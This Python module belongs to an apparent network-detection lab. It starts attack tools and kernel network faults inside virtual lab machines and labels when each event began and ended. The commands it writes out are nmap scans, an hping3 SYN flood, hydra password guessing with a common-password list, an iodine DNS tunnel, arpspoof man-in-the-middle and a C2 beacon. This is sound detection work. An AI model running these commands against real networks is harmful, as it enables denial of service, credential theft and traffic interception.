"""What the lab does at an event's start and end: attack tools started in a VM's namespace, kernel faults set and
cleared. Each action reports the moments it acted, which become the label's start and end."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from pathlib import Path
from typing import Any

from netsentry.pipeline.lab.scenario import LabEvent, LabScenario, router_ip
from netsentry.pipeline.lab.shell import run, spawn, stop_process
from netsentry.pipeline.lab.topology import Lab
from netsentry.pipeline.simulate.events import Label, param

AGENTS = [sys.executable, "-m", "netsentry.pipeline.lab.agents"]


@dataclass
class Running:
    """An event under way: its label so far and what to undo."""

    event: LabEvent
    label: Label
    proc: subprocess.Popen[bytes] | None = None
    helpers: list[subprocess.Popen[bytes]] = field(default_factory=list)  # stopped with it (a tunnel's far end)
    undo: list[list[str]] | None = None
    undo_ns: str = ""
    finished_ns: int = 0  # when its tool was seen to have exited by itself
    counted: Callable[[], str] | None = None  # what the kernel counts the fault did (read before it is undone)


def _now() -> int:
    return time.time_ns()


def _vm_label(lab: Lab, e: LabEvent, start_ns: int, detail: str) -> Label:
    vm = lab.scenario.vm(e.target)
    return Label(kind=e.kind, scenario=e.type, scope_type="vm", scope=vm.ip, start_ns=start_ns, end_ns=start_ns,
                 tenant=vm.tenant, vm=vm.name, vni=lab.scenario.vni(vm), detail=detail)  # fmt: skip


def _param(e: LabEvent, name: str, default: Any) -> Any:
    """An event parameter of its default's type (a ConfigError naming it otherwise), as ``simulate``'s events read
    theirs."""
    return param(e.params, name, default, type(default))


def _victim(lab: Lab, e: LabEvent) -> str:
    v = str(_param(e, "victim", ""))
    if not v:
        others = [x for x in lab.scenario.vms if x.name != e.target and x.subnet == lab.scenario.vm(e.target).subnet]
        return (others or [x for x in lab.scenario.vms if x.name != e.target])[0].ip
    return lab.scenario.vm(v).ip if v in {x.name for x in lab.scenario.vms} else v


def c2_address(sc: LabScenario, e: LabEvent) -> str:
    """A beacon's server: ``params.c2``, else the scenario's last internet host (which everyday clients then avoid)."""
    return str(e.params.get("c2", sc.internet_hosts[-1]))


def internet_source(sc: LabScenario, e: LabEvent) -> str:
    """The internet host an event acts from when its target is the victim: ``params.source`` (an index), else the
    first."""
    return sc.internet_hosts[int(_param(e, "source", 0)) % len(sc.internet_hosts)]


def tunnel_server(sc: LabScenario, e: LabEvent) -> str:
    """A DNS tunnel's server (authoritative for its domain): internet host ``params.server`` (an index), else the
    last (which everyday clients then avoid)."""
    return sc.internet_hosts[int(e.params.get("server", -1)) % len(sc.internet_hosts)]


def tunnel_domain(e: LabEvent) -> str:
    return str(e.params.get("domain", TUNNEL_DOMAIN))


def guessed_service(e: LabEvent) -> str:
    """The service a guessing event attacks (``ssh_bruteforce`` is ssh; ``bruteforce`` names it); "" otherwise."""
    if e.type == "ssh_bruteforce":
        return "ssh"
    return str(e.params.get("service", "ssh")) if e.type == "bruteforce" else ""


TUNNEL_DOMAIN = "t.lab.example"
TUNNEL_NET = "10.99.0.1"
"""iodined's end of the tunnel (the client gets the next address)."""
TUNNEL_SECRET = "nsl-tunnel"


def start(lab: Lab, e: LabEvent, log_dir: str) -> Running:
    """Begin event ``e``; the label's start is the moment its tool started or its fault was in place."""
    sc, log = lab.scenario, f"{log_dir}/{e.type}-{e.target}.log"
    if e.kind == "compromise":
        vm = sc.vm(e.target)
        rate = str(_param(e, "rate_pps", 200))
        if e.type == "port_scan_vertical":
            ports = str(_param(e, "ports", "1-1024"))
            victim = _victim(lab, e)
            cmd = ["nmap", "-sS", "-Pn", "-n", "--max-retries", "1", "--max-rate", rate, "-p", ports, victim]
            detail = f"role=attacker tool=nmap-syn victim={victim} ports={ports}"
        elif e.type == "ping_sweep":
            cmd = ["nmap", "-sn", "-PE", "-n", "--max-retries", "1", "--max-rate", rate, vm.cidr]
            detail = f"role=attacker tool=nmap-icmp subnet={vm.cidr}"
        elif e.type == "udp_sweep":
            port = str(_param(e, "port", 161))
            cmd = ["nmap", "-sU", "-Pn", "-n", "--max-retries", "0", "--max-rate", rate, "-p", port, vm.cidr]
            detail = f"role=attacker tool=nmap-udp subnet={vm.cidr} port={port}"
        elif e.type == "ddos_syn":
            source = internet_source(sc, e)
            interval = max(1, int(1e6 / float(_param(e, "rate_pps", 500))))
            t0 = _now()
            proc = spawn(["hping3", "-q", "-S", "-p", str(_param(e, "port", 80)), "-i", f"u{interval}", vm.ip],
                         lab.ext_ns[source], log, cwd=lab.work_dir)  # fmt: skip
            return Running(e, _vm_label(lab, e, t0, f"role=victim tool=hping3-syn source={source}"), proc)
        elif e.type in ("ssh_bruteforce", "bruteforce"):
            return _guessing(lab, e, log)
        elif e.type == "dns_tunnel":
            return _dns_tunnel(lab, e, log_dir)
        elif e.type == "arp_spoofing":
            return _arp_spoofing(lab, e, log)
        else:  # c2_beacon
            period, jitter = float(_param(e, "period_s", 5.0)), float(_param(e, "jitter", 0.1))
            target = c2_address(sc, e)
            cmd = [*AGENTS, "beacon", target, str(period), str(jitter)]
            detail = f"c2={target}:80 period_s={period:g} jitter={jitter:g}"
        t0 = _now()
        return Running(e, _vm_label(lab, e, t0, detail), spawn(cmd, lab.vm_ns[vm.name], log, cwd=lab.work_dir))
    return _start_fault(lab, e)


WORDS = (
    "123456",
    "password",
    "admin",
    "root",
    "qwerty",
    "letmein",
    "welcome",
    "monkey",
    "dragon",
    "111111",
    "abc123",
    "master",
    "shadow",
    "secret",
    "passw0rd",
    "changeme",
    "trustno1",
    "toor",
    "ubuntu",
    "raspberry",
)
"""The guesses (the usual top of leaked-password lists), cycled as long as the event lasts."""


HYDRA_TARGETS = {"ssh": "ssh://{ip}", "ftp": "ftp://{ip}", "http-auth": "http-get://{ip}/admin/"}
"""What hydra is pointed at per guessed service (the lab's VMs run sshd, vsftpd when guessed at, and a web server
whose ``/admin/`` asks for a password)."""
PORTS = {"ssh": 22, "ftp": 21, "http-auth": 80}


def _guessing(lab: Lab, e: LabEvent, log: str) -> Running:
    """hydra against ``service`` (ssh, ftp or http-auth): ``role`` victim (default; an internet host guesses at the
    target VM) or attacker (the target VM guesses at ``victim``, another VM)."""
    sc = lab.scenario
    service = guessed_service(e)
    words = Path(lab.work_dir) / "words.txt"
    words.write_text("\n".join(WORDS * 50) + "\n")
    tasks = str(_param(e, "tasks", 4))
    if str(_param(e, "role", "victim")) == "attacker":
        ns, victim, role = lab.vm_ns[e.target], _victim(lab, e), "attacker"
        peer = victim
    else:
        peer = internet_source(sc, e)
        ns, victim, role = lab.ext_ns[peer], sc.vm(e.target).ip, "victim"
    cmd = ["hydra", "-I", "-l", str(_param(e, "user", "admin")), "-P", str(words), "-t", tasks, "-w", "5",
           HYDRA_TARGETS[service].format(ip=victim)]  # fmt: skip
    t0 = _now()
    detail = f"service={service} port={PORTS[service]} role={role} peer={peer} tool=hydra"
    return Running(e, _vm_label(lab, e, t0, detail), spawn(cmd, ns, log, cwd=lab.work_dir))


def _dns_tunnel(lab: Lab, e: LabEvent, log_dir: str) -> Running:
    """iodine from the target VM through its resolver (the gateway's dnsmasq, which forwards the tunnel's domain)
    to iodined on an internet host, then data both ways through the tunnel every ``period_s``."""
    sc, vm = lab.scenario, lab.scenario.vm(e.target)
    server, domain = tunnel_server(sc, e), tunnel_domain(e)
    resolver = router_ip(vm.cidr)
    log = f"{log_dir}/dns_tunnel-{e.target}"
    far = spawn(["iodined", "-f", "-c", "-P", TUNNEL_SECRET, TUNNEL_NET, domain], lab.ext_ns[server],
                f"{log}-iodined.log")  # fmt: skip
    time.sleep(0.5)
    t0 = _now()
    near = spawn(["iodine", "-f", "-r", "-P", TUNNEL_SECRET, resolver, domain], lab.vm_ns[vm.name], f"{log}.log")
    user = spawn([*AGENTS, "tunnel", TUNNEL_NET, str(float(_param(e, "period_s", 2.0)))], lab.vm_ns[vm.name],
                 f"{log}-transfers.log")  # fmt: skip
    detail = f"tool=iodine domain={domain} resolver={resolver} server={server}"
    return Running(e, _vm_label(lab, e, t0, detail), near, helpers=[user, far])


def _arp_spoofing(lab: Lab, e: LabEvent, log: str) -> Running:
    """arpspoof in the target VM telling ``victim`` (another VM of its subnet) that the subnet's gateway address
    (or ``claim``) is at the VM's MAC, forwarding what it then receives (a man in the middle)."""
    vm = lab.scenario.vm(e.target)
    victim = _victim(lab, e)
    claim = str(_param(e, "claim", router_ip(vm.cidr)))
    ns = lab.vm_ns[vm.name]
    run(["sh", "-c", "echo 1 > /proc/sys/net/ipv4/ip_forward"], netns=ns)
    t0 = _now()
    proc = spawn(["arpspoof", "-i", "eth0", "-t", victim, claim], ns, log)
    detail = f"role=attacker tool=arpspoof victim={victim} claimed={claim}"
    undo = [["sh", "-c", "echo 0 > /proc/sys/net/ipv4/ip_forward"]]
    return Running(e, _vm_label(lab, e, t0, detail), proc, undo=undo, undo_ns=ns)


def _config_change(lab: Lab, e: LabEvent) -> Running:
    """A subnet cut off at the gateway, as ``simulate``'s ``config_change``. ``route_withdrawn``: the route into it
    (silent), or with ``answer: icmp`` its way out (an ``unreachable`` policy rule: its packets are answered "net
    unreachable"); ``filter_pushed``: a filter dropping both ways, or with ``icmp`` rejecting its packets with
    admin-prohibited."""
    subnet = e.target
    cidr = lab.scenario.subnets[subnet]
    br = lab.gateway_bridges[subnet]
    gw_ip = router_ip(cidr)
    action = str(_param(e, "action", "route_withdrawn"))
    answer = str(_param(e, "answer", "silent"))
    if action == "filter_pushed":
        table = ["inet", "nsl_change"]
        outbound = ["reject", "with", "icmp", "type", "admin-prohibited"] if answer == "icmp" else ["drop"]
        rules = [["nft", "add", "table", *table],
                 ["nft", "add", "chain", *table, "drops", "{ type filter hook forward priority 0; policy accept; }"],
                 ["nft", "add", "rule", *table, "drops", "ip", "daddr", cidr, "counter", "drop"],
                 ["nft", "add", "rule", *table, "drops", "ip", "saddr", cidr, "counter", *outbound]]  # fmt: skip
        undo = [["nft", "delete", "table", *table]]
        counted = partial(_nft_dropped, lab.gateway_ns, table)
    elif answer == "icmp":  # the subnet's way out withdrawn: the gateway answers its packets "net unreachable"
        rules = [["ip", "rule", "add", "from", cidr, "iif", br, "unreachable"]]
        undo = [["ip", "rule", "del", "from", cidr, "iif", br, "unreachable"]]
        counted = None
    else:  # the way in withdrawn: answers to the subnet vanish (their senders get the ICMP, on the internet side)
        rules = [["ip", "route", "del", cidr, "dev", br]]
        undo = [["ip", "route", "add", cidr, "dev", br, "proto", "kernel", "scope", "link", "src", gw_ip]]
        counted = None
    for r in rules:
        run(r, netns=lab.gateway_ns)
    t0 = _now()
    tenant = next((v.tenant for v in lab.scenario.vms if v.subnet == subnet), "")
    detail = f"host=gateway; subnet={cidr}; action={action}; answer={answer}"
    label = Label(kind="fault", scenario="config_change", scope_type="link", scope="gateway", start_ns=t0,
                  end_ns=t0, tenant=tenant, detail=detail)  # fmt: skip
    return Running(e, label, undo=undo, undo_ns=lab.gateway_ns, counted=counted)


def _start_fault(lab: Lab, e: LabEvent) -> Running:
    if e.type == "config_change":
        return _config_change(lab, e)
    host, ns = e.target, lab.host_ns[e.target]
    if e.type == "loss_burst":  # on the host's links to the gateway (to the fabric with VXLAN), both ways
        p = float(_param(e, "loss_p", 0.1))
        n = str(max(1, round(p * 1000)))
        ns, ports = lab.loss_links[host]
        run(["nft", "add", "table", "bridge", "nsl_loss"], netns=ns)
        run(["nft", "add", "chain", "bridge", "nsl_loss", "drops",
             "{ type filter hook forward priority 0; policy accept; }"], netns=ns)  # fmt: skip
        for side in ("iifname", "oifname"):
            run(["nft", "add", "rule", "bridge", "nsl_loss", "drops", side, ports, "numgen", "random", "mod", "1000",
                 "<", n, "counter", "drop"], netns=ns)  # fmt: skip
        undo, detail = [["nft", "delete", "table", "bridge", "nsl_loss"]], f"loss_p={p:g}; tool=nft-numgen"
        counted = partial(_nft_dropped, ns, ["bridge", "nsl_loss"])
    elif e.type == "latency_spike":
        rate, latency = str(_param(e, "rate", "200kbit")), str(_param(e, "latency", "400ms"))
        undo = []
        for up in lab.uplinks[host]:
            run(["tc", "qdisc", "add", "dev", up, "root", "tbf", "rate", rate, "burst", "4kb", "latency", latency],
                netns=ns)  # fmt: skip
            undo.append(["tc", "qdisc", "del", "dev", up, "root"])
        detail = f"tool=tbf; rate={rate}; latency={latency}"
        counted = partial(_tbf_counts, ns, lab.uplinks[host])
    else:  # blackhole
        undo = []
        for up in lab.uplinks[host]:
            run(["ip", "link", "set", up, "down"], netns=ns)
            undo.append(["ip", "link", "set", up, "up"])
        detail, counted = "tool=link-down", None
    t0 = _now()
    label = Label(kind="fault", scenario=e.type, scope_type="host", scope=host, start_ns=t0, end_ns=t0, detail=detail)
    return Running(e, label, undo=undo, undo_ns=ns, counted=counted)


def _nft_dropped(ns: str, table: list[str]) -> str:
    """``dropped=N``: the packets the table's counters saw (its rules count what they drop or reject)."""
    listing = run(["nft", "list", "table", *table], netns=ns, check=False)
    counts = re.findall(r"counter packets (\d+)", listing)
    return f"dropped={sum(int(n) for n in counts)}"


def _tbf_counts(ns: str, links: list[str]) -> str:
    """``delayed=N; dropped=M``: packets tbf held back for want of tokens (its overlimits) and dropped, on ``links``."""
    delayed = dropped = 0
    for link in links:
        stats = run(["tc", "-s", "qdisc", "show", "dev", link], netns=ns, check=False)
        m = re.search(r"dropped (\d+), overlimits (\d+)", stats)
        if m:
            dropped, delayed = dropped + int(m.group(1)), delayed + int(m.group(2))
    return f"delayed={delayed}; dropped={dropped}"


def stop(r: Running) -> Label:
    """End an event: stop its tool (or note that it had finished) or clear its fault; the label ends then."""
    end = _now()
    if r.proc is not None:
        if r.proc.poll() is None:
            stop_process(r.proc)
            end = _now()
        else:
            end = r.finished_ns or end
    for helper in r.helpers:
        stop_process(helper)
    if r.counted is not None:
        r.label.detail += f"; {r.counted()}"
    for cmd in r.undo or []:
        run(cmd, netns=r.undo_ns, check=False)
    if r.undo and r.event.kind == "fault":
        end = _now()
    r.label.end_ns = max(end, r.label.start_ns + 1)
    return r.label
